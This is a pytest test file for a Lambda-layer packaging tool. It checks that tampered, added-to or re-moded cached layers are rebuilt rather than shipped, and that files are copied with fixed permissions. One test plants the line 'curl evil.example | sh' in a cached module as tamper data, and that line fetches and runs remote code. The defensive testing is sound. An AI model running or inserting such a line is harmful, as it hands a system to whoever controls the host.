"""A cached layer ships only as built: re-hashed on reuse, copied (not linked) into cdk.out, the copy hashed.

Layers are built for real from a local package index (pip, no network).
"""

from __future__ import annotations

import os

import pytest

from cdk_sklearn.packaging.build import build_layer, copy_layer
from cdk_sklearn.packaging.target import LambdaTarget
from tests.helpers.wheels import make_wheel, use_local_index

TARGET = LambdaTarget("python3.13", "arm64")
ORIGINAL = "VERSION = '1.0'\n"


@pytest.fixture
def built(tmp_path, monkeypatch):
    """A layer of ``tinypkg`` 1.0 in a fresh cache, and the lock it was built from."""
    make_wheel(tmp_path / "index", "tinypkg", "1.0")
    use_local_index(monkeypatch, tmp_path / "index")
    monkeypatch.setenv("CDK_SKLEARN_CACHE", str(tmp_path / "cache"))
    lock = tmp_path / "pylock.cdk-sklearn.toml"
    return build_layer(["tinypkg"], TARGET, None, lock=lock, log=lambda _: None), lock


def _module(build):
    return build.layer_dir / "python" / "tinypkg" / "__init__.py"


def test_tampered_cached_file_is_rebuilt_not_shipped(built):
    first, lock = built
    _module(first).write_text("import os; os.system('curl evil.example | sh')\n")
    lines: list[str] = []
    again = build_layer(["tinypkg"], TARGET, None, lock=lock, log=lines.append)
    assert not again.reused
    assert _module(again).read_text() == ORIGINAL
    assert again.content_hash == first.content_hash
    said = [line for line in lines if "does not match the tree hash recorded when it was built" in line]
    assert len(said) == 1 and "discarded and rebuilt" in said[0]


def test_file_added_to_the_cached_layer_is_rebuilt(built):
    first, lock = built
    (first.layer_dir / "python" / "sitecustomize.py").write_text("print('hello')\n")
    again = build_layer(["tinypkg"], TARGET, None, lock=lock, log=lambda _: None)
    assert not again.reused
    assert not (again.layer_dir / "python" / "sitecustomize.py").exists()


def test_mode_changed_in_the_cached_layer_is_rebuilt(built):
    first, lock = built
    _module(first).chmod(0o777)
    again = build_layer(["tinypkg"], TARGET, None, lock=lock, log=lambda _: None)
    assert not again.reused
    assert _module(again).stat().st_mode & 0o777 == 0o644


def test_untouched_cached_layer_is_reused(built):
    first, lock = built
    again = build_layer(["tinypkg"], TARGET, None, lock=lock, log=lambda _: None)
    assert again.reused and again.content_hash == first.content_hash


def test_layer_files_are_copied_not_hard_linked(built, tmp_path):
    first, _ = built
    out = tmp_path / "cdk.out" / "asset"
    copy_layer(first, out)
    copied = out / "python" / "tinypkg" / "__init__.py"
    assert not os.path.samefile(copied, _module(first))
    assert copied.stat().st_nlink == 1
    copied.write_text("edited in cdk.out\n")
    assert _module(first).read_text() == ORIGINAL


def test_fails_when_the_cache_changes_between_check_and_copy(built, tmp_path):
    first, _ = built
    _module(first).write_text("changed after the check\n")
    with pytest.raises(RuntimeError, match=r"changed while it was copied .* nothing was shipped"):
        copy_layer(first, tmp_path / "out")


def test_layer_modes_do_not_follow_the_umask(tmp_path, monkeypatch):
    make_wheel(tmp_path / "index", "tinypkg", "1.0")
    use_local_index(monkeypatch, tmp_path / "index")
    hashes = set()
    for umask in (0o022, 0o002):
        monkeypatch.setenv("CDK_SKLEARN_CACHE", str(tmp_path / f"cache-{umask:o}"))
        previous = os.umask(umask)
        try:
            build = build_layer(["tinypkg"], TARGET, None, lock=tmp_path / "lock.toml", log=lambda _: None)
        finally:
            os.umask(previous)
        assert _module(build).stat().st_mode & 0o777 == 0o644
        assert (build.layer_dir / "python").stat().st_mode & 0o777 == 0o755
        hashes.add(build.content_hash)
    assert len(hashes) == 1
